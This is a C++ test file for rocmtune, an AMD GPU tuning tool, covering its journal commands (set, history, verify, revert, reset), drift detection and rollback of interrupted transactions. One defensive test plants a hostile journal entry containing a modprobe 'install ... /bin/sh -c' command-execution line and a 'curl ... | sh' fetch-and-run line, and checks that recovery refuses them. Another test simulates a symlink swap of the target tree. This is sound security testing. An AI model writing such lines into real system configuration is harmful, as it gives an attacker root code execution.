// The journal's verbs end to end: the built rocmtunectl and rocmtune-helper on copies of a
// world. set -> history -> verify -> revert leaves the tree as it was; reset removes only
// rocmtune's files; drift stops a change until --force.
#include <cstdlib>
#include <filesystem>

#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "cli_runner.h"
#include "client/exit_codes.h"
#include "journal/journal.h"
#include "knobs/sysfs_attributes.h"

using ::testing::HasSubstr;

namespace rocmtune::client {
namespace {

using json = nlohmann::ordered_json;
using testing::WorldCopy;

constexpr const char* kTransactionCliWorld =
    "rx5700xt";  // Ubuntu 24.04: modprobe.d drop-in, grub.d drop-in, initramfs-tools
constexpr const char* kConf = "etc/modprobe.d/rocmtune.conf";
constexpr const char* kGrubDropIn = "etc/default/grub.d/zz-rocmtune.cfg";

std::vector<std::string> Subjects(const json& verify, std::string_view kind) {
  std::vector<std::string> out;
  for (const auto& d : verify["differences"])
    if (d.value("kind", "") == kind) out.push_back(d.value("subject", ""));
  return out;
}

// Between planning and writing, someone who owns the root's parent points the path at another
// directory (here: a wrapper run as the helper does it, so no timing is involved). The helper
// works on the directory rocmtunectl planned for, never on whatever the path names by then.
TEST(TransactionCliTest, TheHelperWritesIntoTheRootThatWasPlannedEvenIfThePathMoves) {
  WorldCopy w(kTransactionCliWorld);
  WorldCopy other(kTransactionCliWorld);
  auto other_before = other.Snapshot();
  testing::TestTree scripts;
  const std::string moved = w.root() + ".planned";
  scripts.Write("swap-then-help",
                fmt::format("#!/bin/sh\nmv '{}' '{}' && ln -s '{}' '{}' || exit 99\nexec '{}' \"$@\"\n", w.root(),
                            moved, other.root(), w.root(), ROCMTUNE_HELPER_BINARY));
  scripts.Chmod("swap-then-help", 0755);
  ::setenv("ROCMTUNE_HELPER", scripts.Path("swap-then-help").c_str(), 1);
  auto set = w.Ctl({"set", "amdgpu.noretry=0", "--json"});
  ::unsetenv("ROCMTUNE_HELPER");
  std::filesystem::remove(w.root());         // the link the "attacker" left
  std::filesystem::rename(moved, w.root());  // so the tree is cleaned up as usual
  ASSERT_EQ(set.exit_code, kExitOk) << set.out << set.err;
  EXPECT_EQ(set.Json()["changed"], true) << set.out;
  EXPECT_TRUE(w.Exists(kConf)) << "committed into the directory that was planned";
  EXPECT_EQ(testing::ChangedPaths(other_before, other.Snapshot(), false, {}), std::vector<std::string>{})
      << "nothing written where the path pointed later";
}

// The journal of a --root tree is the tree owner's file. An "interrupted transaction" in it that
// asks for a root-owned `install` line in modprobe.d and shell code in profile.d must not turn
// root's next `set` into writing them: recovery refuses those steps, says so, and goes on.
TEST(TransactionCliTest, AHostileJournalCannotMakeRecoveryWriteWhatNoPlanMay) {
  WorldCopy w(kTransactionCliWorld);
  journal::Transaction txn;
  txn.number = 1;
  txn.id = "1";
  txn.time = "2026-11-23T00:00:00Z";
  txn.intent = {"set", "", {"amdgpu.noretry=0"}, "", {}};
  plan::Op conf{plan::OpKind::kRemoveFile,
                plan::BackendId::kModprobe,
                kConf,
                "install amdgpu /bin/sh -c 'id >/tmp/pwned'\n",
                std::nullopt,
                {},
                "r"};
  plan::Op profile{plan::OpKind::kRemoveFile,
                   plan::BackendId::kEnv,
                   "etc/profile.d/rocmtune.sh",
                   "curl -s x | sh\n",
                   std::nullopt,
                   {},
                   "r"};
  txn.ops = {conf, profile};
  w.Write(std::string(journal::kJournalDir) + "/" + journal::JournalFileName(1),
          journal::BeginRecord(txn).dump() + "\n");

  auto set = w.Ctl({"set", "amdgpu.noretry=0", "--json"});
  ASSERT_EQ(set.exit_code, kExitOk) << set.out << set.err;
  json doc = set.Json();
  EXPECT_EQ(doc["changed"], true) << set.out;
  EXPECT_THAT(doc["warnings"].dump(), HasSubstr("refused by the allow-list")) << set.out;
  EXPECT_THAT(doc["warnings"].dump(), HasSubstr("transaction 1 was rolled back first")) << set.out;
  EXPECT_THAT(w.Read(kConf), ::testing::Not(HasSubstr("install"))) << w.Read(kConf);
  EXPECT_THAT(w.Read(kConf), HasSubstr("noretry=0"));
  EXPECT_FALSE(w.Exists("etc/profile.d/rocmtune.sh"));
  auto history = w.Ctl({"history", "--json"});
  ASSERT_EQ(history.exit_code, kExitOk) << history.err;
  EXPECT_EQ(history.Json()["transactions"][0]["state"], "rolled-back") << history.out;
}

// The helper's reply is another process's output: fields of the wrong type or a deep document
// are a failure with a message, never an exception that aborts rocmtunectl.
TEST(TransactionCliTest, AMalformedHelperReplyIsAFailureNotAnAbort) {
  WorldCopy w(kTransactionCliWorld);
  testing::TestTree scripts;
  for (std::string reply :
       {std::string(R"({"status": 5, "transaction": [], "regenerated": {"initramfs": 1}, "messages": [2]})"),
        std::string(20000, '[')}) {
    SCOPED_TRACE(reply.substr(0, 40));
    scripts.Write("reply", reply);
    scripts.Write("fake-helper", fmt::format("#!/bin/sh\ncat >/dev/null\ncat '{}'\nexit 0\n", scripts.Path("reply")));
    scripts.Chmod("fake-helper", 0755);
    ::setenv("ROCMTUNE_HELPER", scripts.Path("fake-helper").c_str(), 1);
    auto set = w.Ctl({"set", "amdgpu.noretry=0", "--json"});
    ::unsetenv("ROCMTUNE_HELPER");
    EXPECT_EQ(set.exit_code, kExitFailed) << set.out << set.err;
    EXPECT_EQ(set.Json()["changed"], false) << set.out;
    EXPECT_THAT(set.Json()["errors"].dump() + set.out, HasSubstr("rocmtune-helper")) << "says who failed";
  }
}

TEST(TransactionCliTest, SetHistoryVerifyRevertLeavesTheTreeAsItWas) {
  WorldCopy w(kTransactionCliWorld);
  ASSERT_FALSE(w.Exists("var")) << "the world has no var/: everything there is rocmtune's";
  auto original = w.Snapshot();

  auto set = w.Ctl({"set", "amdgpu.noretry=0", "cmdline.iommu=pt", "--json"});
  ASSERT_EQ(set.exit_code, kExitOk) << set.out << set.err;
  json doc = set.Json();
  EXPECT_EQ(testing::ResultDocumentProblems(doc), "") << set.out;
  EXPECT_EQ(doc["changed"], true);
  EXPECT_EQ(doc["check"], false);
  EXPECT_EQ(doc["transaction"], "1");
  EXPECT_EQ(doc["reboot_required"], true);
  EXPECT_EQ(doc["regenerated"]["initramfs"], "pending") << "a world is not the running system";
  EXPECT_EQ(doc["regenerated"]["bootloader"], "pending");
  EXPECT_TRUE(w.Exists(kConf));
  EXPECT_TRUE(w.Exists(kGrubDropIn));

  auto history = w.Ctl({"history", "--json"});
  ASSERT_EQ(history.exit_code, kExitOk) << history.err;
  json h = history.Json();
  EXPECT_EQ(h["schema"], "rocmtune.history.v1");
  EXPECT_TRUE(h["active_profile"].is_null()) << h.dump();  // unknown or none: null
  ASSERT_EQ(h["transactions"].size(), 1u);
  EXPECT_EQ(h["transactions"][0]["id"], "1");
  EXPECT_EQ(h["transactions"][0]["verb"], "set");
  EXPECT_EQ(h["transactions"][0]["args"], json({"amdgpu.noretry=0", "cmdline.iommu=pt"}));
  EXPECT_EQ(h["transactions"][0]["state"], "committed");
  EXPECT_EQ(h["transactions"][0]["reverted"], false);
  EXPECT_THAT(h["transactions"][0]["changes"].dump(), HasSubstr(kConf));

  // Boot-time knobs are configured but not running until a reboot: verify says so (exit 6).
  auto verify = w.Ctl({"verify", "--json"});
  EXPECT_EQ(verify.exit_code, kExitVerifyDiffers) << verify.out;
  json v = verify.Json();
  EXPECT_EQ(v["schema"], "rocmtune.verify.v1");
  EXPECT_EQ(v["ok"], false);
  EXPECT_THAT(Subjects(v, "pending-reboot"), ::testing::Contains("amdgpu.noretry"));
  EXPECT_TRUE(Subjects(v, "drift").empty());
  EXPECT_EQ(w.Ctl({"verify"}).exit_code, kExitVerifyDiffers) << "the table view exits the same way";

  auto revert = w.Ctl({"revert", "last", "--json"});
  ASSERT_EQ(revert.exit_code, kExitOk) << revert.out << revert.err;
  json r = revert.Json();
  EXPECT_EQ(testing::ResultDocumentProblems(r), "") << revert.out;
  EXPECT_EQ(r["changed"], true);
  EXPECT_EQ(r["transaction"], "2");

  // Byte for byte as before, modes included; only rocmtune's own state is new.
  EXPECT_EQ(testing::ChangedPaths(original, w.Snapshot(), false, {"var/lib/rocmtune"}),
            (std::vector<std::string>{"var", "var/lib"}));
  std::vector<std::string> state;
  for (const auto& [path, entry] : w.Snapshot())
    if (path.starts_with("var/lib/rocmtune/") && path.find('/', 17) == std::string::npos) state.push_back(path);
  EXPECT_EQ(state, (std::vector<std::string>{"var/lib/rocmtune/journal", "var/lib/rocmtune/lock"}));

  EXPECT_EQ(w.Ctl({"verify"}).exit_code, kExitOk) << "nothing rocmtune configured is left to differ";
  json after = w.Ctl({"history", "--json"}).Json();
  ASSERT_EQ(after["transactions"].size(), 2u);
  EXPECT_EQ(after["transactions"][0]["reverted"], true);
  EXPECT_EQ(after["transactions"][1]["verb"], "revert");
  EXPECT_EQ(after["transactions"][1]["reverts"], "1");
}

// A runtime attribute's `before` is what puts it back in the form the kernel takes (a profile's
// index, never the table it reads as). On a world the helper's write shows as the kernel would
// show it, so set -> verify -> revert leaves the attribute reading as it did, byte for byte.
TEST(TransactionCliTest, SetThenRevertOfASysfsAttributePutsItBack) {
  struct Case {
    std::string world, attr, value, device;
  };
  const std::vector<Case> cases = {
      {"rx6900xt", "pp_power_profile_mode", "COMPUTE", "sys/devices/pci0000:00/0000:0c:00.0"},
      {"rx580", "pp_power_profile_mode", "COMPUTE", "sys/devices/pci0000:00/0000:09:00.0"},  // smu7: " *:" marks
      {"rx6900xt", "power_dpm_force_performance_level", "high", "sys/devices/pci0000:00/0000:0c:00.0"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.world + " " + c.attr);
    WorldCopy w(c.world);
    auto original = w.Snapshot();
    const std::string path = c.device + "/" + c.attr;
    const knobs::SysfsCodec& codec = *knobs::FindSysfsAttribute(c.attr)->codec;
    auto before = codec.Current(w.Read(path));
    ASSERT_TRUE(before.has_value());
    ASSERT_NE(*before, c.value);

    auto set = w.Ctl({"set", fmt::format("sysfs.all.{}={}", c.attr, c.value), "--json"});
    ASSERT_EQ(set.exit_code, kExitOk) << set.out << set.err;
    EXPECT_EQ(set.Json()["changed"], true) << set.out;
    EXPECT_EQ(codec.Current(w.Read(path)), c.value) << "a later read shows the new value:\n" << w.Read(path);
    auto verify = w.Ctl({"verify", "--json"});
    EXPECT_EQ(verify.exit_code, kExitOk) << verify.out;
    // Someone else selects another value: verify compares what rocmtune wrote with what the
    // attribute reads, through the codec (a table's active row, not its bytes).
    const std::string ours = w.Read(path);
    auto other = codec.Encode(ours, c.attr == "pp_power_profile_mode" ? "VIDEO" : "low");
    ASSERT_TRUE(other.has_value());
    w.Write(path, codec.Emulate(ours, *other));
    auto differs = w.Ctl({"verify", "--json"});
    EXPECT_EQ(differs.exit_code, kExitVerifyDiffers) << differs.out;
    EXPECT_EQ(Subjects(differs.Json(), "sysfs"), std::vector<std::string>{"/sys/class/drm/card0/device/" + c.attr})
        << differs.out;
    w.Write(path, ours);

    auto revert = w.Ctl({"revert", "last", "--json"});
    ASSERT_EQ(revert.exit_code, kExitOk) << revert.out << revert.err;
    EXPECT_EQ(revert.Json()["changed"], true) << revert.out;
    EXPECT_EQ(codec.Current(w.Read(path)), before) << w.Read(path);
    EXPECT_EQ(testing::ChangedPaths(original, w.Snapshot(), false, {"var/lib/rocmtune"}),
              (std::vector<std::string>{"var", "var/lib"}))
        << "the attribute as it was, byte for byte";
    EXPECT_EQ(w.Ctl({"verify"}).exit_code, kExitOk);
  }
}

TEST(TransactionCliTest, ResetRemovesEveryRocmtuneFileAndNoForeignOne) {
  WorldCopy w(kTransactionCliWorld);
  const std::string foreign = "# the admin's own\noptions amdgpu runpm=0\n";
  w.Write("etc/modprobe.d/other.conf", foreign);
  auto original = w.Snapshot();

  ASSERT_EQ(w.Ctl({"set", "amdgpu.noretry=0"}).exit_code, kExitOk);
  ASSERT_EQ(w.Ctl({"set", "cmdline.iommu=pt", "ttm.pages_limit=1048576"}).exit_code, kExitOk);
  ASSERT_TRUE(w.Exists(kConf));
  ASSERT_TRUE(w.Exists(kGrubDropIn));
  ASSERT_EQ(w.JournalFiles(), 2u);

  auto reset = w.Ctl({"reset", "--json"});
  ASSERT_EQ(reset.exit_code, kExitOk) << reset.out << reset.err;
  json doc = reset.Json();
  EXPECT_EQ(testing::ResultDocumentProblems(doc), "") << reset.out;
  EXPECT_EQ(doc["changed"], true);
  EXPECT_EQ(doc["transaction"], "3");
  EXPECT_FALSE(w.Exists(kConf));
  EXPECT_FALSE(w.Exists(kGrubDropIn));
  EXPECT_EQ(w.Read("etc/modprobe.d/other.conf"), foreign);
  EXPECT_EQ(testing::ChangedPaths(original, w.Snapshot(), false, {"var/lib/rocmtune"}),
            (std::vector<std::string>{"var", "var/lib"}));

  json h = w.Ctl({"history", "--json"}).Json();
  ASSERT_EQ(h["transactions"].size(), 3u);
  EXPECT_EQ(h["transactions"][2]["verb"], "reset");
  EXPECT_TRUE(h["active_profile"].is_null()) << h.dump();  // unknown or none: null
  // Stock is stock: a second reset has nothing to do.
  auto again = w.Ctl({"reset", "--json"});
  EXPECT_EQ(again.exit_code, kExitOk);
  EXPECT_EQ(again.Json()["changed"], false);
  EXPECT_EQ(w.JournalFiles(), 3u);
}

TEST(TransactionCliTest, DriftStopsAChangeUntilForced) {
  WorldCopy w(kTransactionCliWorld);
  ASSERT_EQ(w.Ctl({"set", "amdgpu.noretry=0"}).exit_code, kExitOk);
  const std::string edited = w.Read(kConf) + "options amdgpu runpm=0\n";
  w.Write(kConf, edited);

  auto verify = w.Ctl({"verify", "--json"});
  EXPECT_EQ(verify.exit_code, kExitVerifyDiffers);
  EXPECT_EQ(Subjects(verify.Json(), "drift"), std::vector<std::string>{std::string("/") + kConf});

  auto set = w.Ctl({"set", "amdgpu.noretry=1", "--json"});
  EXPECT_EQ(set.exit_code, kExitDrift) << set.out;
  json doc = set.Json();
  EXPECT_EQ(testing::ResultDocumentProblems(doc), "") << set.out;
  EXPECT_EQ(doc["changed"], false);
  EXPECT_TRUE(doc["transaction"].is_null());
  ASSERT_FALSE(doc["conflicts"].empty());
  EXPECT_THAT(doc["conflicts"][0]["message"].get<std::string>(), HasSubstr("drift"));
  EXPECT_EQ(w.Read(kConf), edited);
  EXPECT_EQ(w.JournalFiles(), 1u);

  auto revert = w.Ctl({"revert", "--json"});
  EXPECT_EQ(revert.exit_code, kExitDrift) << "reverting over an edit is drift too: " << revert.out;
  EXPECT_EQ(w.Read(kConf), edited);

  auto forced = w.Ctl({"set", "amdgpu.noretry=1", "--force", "--json"});
  ASSERT_EQ(forced.exit_code, kExitOk) << forced.out << forced.err;
  EXPECT_EQ(forced.Json()["changed"], true);
  EXPECT_THAT(w.Read(kConf), HasSubstr("options amdgpu noretry=1"));
  EXPECT_EQ(w.JournalFiles(), 2u);
  EXPECT_EQ(Subjects(w.Ctl({"verify", "--json"}).Json(), "drift"), std::vector<std::string>{});
}

TEST(TransactionCliTest, ResetOverDriftNeedsForce) {
  WorldCopy w(kTransactionCliWorld);
  ASSERT_EQ(w.Ctl({"set", "amdgpu.noretry=0", "cmdline.iommu=pt"}).exit_code, kExitOk);
  const std::string drop_in = w.Read(kGrubDropIn);
  const std::string edited = w.Read(kConf) + "options amdgpu runpm=0\n";
  w.Write(kConf, edited);
  auto reset = w.Ctl({"reset", "--json"});
  EXPECT_EQ(reset.exit_code, kExitDrift) << reset.out;
  EXPECT_EQ(reset.Json()["changed"], false);
  EXPECT_EQ(w.Read(kConf), edited);
  EXPECT_EQ(w.Read(kGrubDropIn), drop_in) << "a blocked reset removes nothing, not even the undrifted file";
  auto forced = w.Ctl({"reset", "--force", "--json"});
  ASSERT_EQ(forced.exit_code, kExitOk) << forced.out << forced.err;
  EXPECT_FALSE(w.Exists(kConf));
  EXPECT_FALSE(w.Exists(kGrubDropIn));
}

// Hand edits of the other owned files: a token added to the GRUB drop-in, a variable rocmtune
// does not manage added to its environment drop-in. Both are drift (exit 5), not a refusal.
TEST(TransactionCliTest, ResetOverHandEditedGrubAndEnvDropInsIsDriftUntilForced) {
  WorldCopy w(kTransactionCliWorld);
  constexpr const char* kEnvDropIn = "etc/environment.d/90-rocmtune.conf";
  ASSERT_EQ(w.Ctl({"set", "cmdline.iommu=pt", "env.HIP_VISIBLE_DEVICES=0"}).exit_code, kExitOk);
  std::string grub = w.Read(kGrubDropIn);
  size_t at = grub.find("iommu=pt");
  ASSERT_NE(at, std::string::npos) << grub;
  grub.insert(at + 8, " quiet");
  w.Write(kGrubDropIn, grub);
  w.Write(kEnvDropIn, w.Read(kEnvDropIn) + "FOO=bar\n");
  auto before = w.Snapshot();

  auto reset = w.Ctl({"reset", "--json"});
  EXPECT_EQ(reset.exit_code, kExitDrift) << reset.out << reset.err;
  json doc = reset.Json();
  EXPECT_EQ(doc["refused"], json::array()) << reset.out;
  EXPECT_THAT(doc["conflicts"].dump(), HasSubstr(kGrubDropIn));
  EXPECT_THAT(doc["conflicts"].dump(), HasSubstr(kEnvDropIn));
  EXPECT_EQ(testing::ChangedPaths(before, w.Snapshot(), true), std::vector<std::string>{});

  auto forced = w.Ctl({"reset", "--force", "--json"});
  ASSERT_EQ(forced.exit_code, kExitOk) << forced.out << forced.err;
  EXPECT_FALSE(w.Exists(kGrubDropIn));
  EXPECT_FALSE(w.Exists(kEnvDropIn));
  EXPECT_FALSE(w.Exists("etc/profile.d/rocmtune.sh"));
}

// The helper killed mid-transaction (the fault helper stands in for it): the journal shows the
// transaction incomplete; `--check` says it will be rolled back; the next change rolls it back
// first and plans against the files as they were before it.
TEST(TransactionCliTest, AnInterruptedTransactionIsRolledBackBeforeTheNextChange) {
  WorldCopy w(kTransactionCliWorld);
  auto original = w.Snapshot();
  ::setenv("ROCMTUNE_HELPER", ROCMTUNE_FAULT_HELPER, 1);
  ::setenv("ROCMTUNE_FAULT", "kill:16", 1);
  auto killed = w.Ctl({"set", "amdgpu.noretry=0", "cmdline.iommu=pt", "--json"});
  ::unsetenv("ROCMTUNE_HELPER");
  ::unsetenv("ROCMTUNE_FAULT");
  EXPECT_EQ(killed.exit_code, kExitFailed) << killed.out;
  json h = w.Ctl({"history", "--json"}).Json();
  ASSERT_EQ(h["transactions"].size(), 1u) << h.dump();
  ASSERT_EQ(h["transactions"][0]["state"], "interrupted") << "kill:16 must land inside the transaction";

  auto check = w.Ctl({"set", "amdgpu.noretry=0", "--check", "--json"});
  EXPECT_EQ(check.exit_code, kExitOk) << check.out;
  EXPECT_THAT(check.Json()["warnings"].dump(), HasSubstr("transaction 1 was interrupted"));
  EXPECT_EQ(w.Ctl({"history", "--json"}).Json()["transactions"][0]["state"], "interrupted") << "--check runs nothing";

  auto set = w.Ctl({"set", "amdgpu.noretry=0", "--json"});
  ASSERT_EQ(set.exit_code, kExitOk) << set.out << set.err;
  json doc = set.Json();
  EXPECT_THAT(doc["warnings"].dump(), HasSubstr("interrupted transaction 1 was rolled back first"));
  EXPECT_EQ(doc["transaction"], "2");
  EXPECT_FALSE(w.Exists(kGrubDropIn)) << "the interrupted transaction's other change is gone";
  ASSERT_EQ(w.Ctl({"revert", "last"}).exit_code, kExitOk);
  EXPECT_EQ(testing::ChangedPaths(original, w.Snapshot(), false, {"var/lib/rocmtune"}),
            (std::vector<std::string>{"var", "var/lib"}));
}

TEST(TransactionCliTest, RevertOfAnUnknownTransactionIsAUsageError) {
  WorldCopy w(kTransactionCliWorld);
  ASSERT_EQ(w.Ctl({"set", "amdgpu.noretry=0"}).exit_code, kExitOk);
  auto before = w.Snapshot();
  for (const char* id : {"999", "0", "abc"}) {
    auto r = w.Ctl({"revert", id, "--json"});
    EXPECT_EQ(r.exit_code, kExitUsage) << id;
    EXPECT_THAT(r.err, HasSubstr(std::string("no transaction ") + id));
  }
  EXPECT_TRUE(testing::ChangedPaths(before, w.Snapshot(), true).empty());
}

TEST(TransactionCliTest, RevertWithNothingInEffectIsDoneAndWritesNothing) {
  WorldCopy w(kTransactionCliWorld);
  auto before = w.Snapshot();
  auto r = w.Ctl({"revert", "--json"});
  EXPECT_EQ(r.exit_code, kExitOk) << r.out << r.err;
  json doc = r.Json();
  EXPECT_EQ(testing::ResultDocumentProblems(doc), "") << r.out;
  EXPECT_EQ(doc["changed"], false);
  EXPECT_TRUE(doc["transaction"].is_null());
  EXPECT_TRUE(doc["changes"].empty());
  EXPECT_EQ(w.Ctl({"revert", "last", "--json"}).exit_code, kExitOk);
  EXPECT_TRUE(testing::ChangedPaths(before, w.Snapshot(), true).empty()) << "not even var/lib/rocmtune";

  // Reverting a transaction that is already reverted is done too, and changes nothing.
  ASSERT_EQ(w.Ctl({"set", "amdgpu.noretry=0"}).exit_code, kExitOk);
  ASSERT_EQ(w.Ctl({"revert", "1"}).exit_code, kExitOk);
  size_t files = w.JournalFiles();
  auto twice = w.Ctl({"revert", "1", "--json"});
  EXPECT_EQ(twice.exit_code, kExitOk);
  EXPECT_EQ(twice.Json()["changed"], false);
  EXPECT_EQ(w.JournalFiles(), files);
}

}  // namespace
}  // namespace rocmtune::client
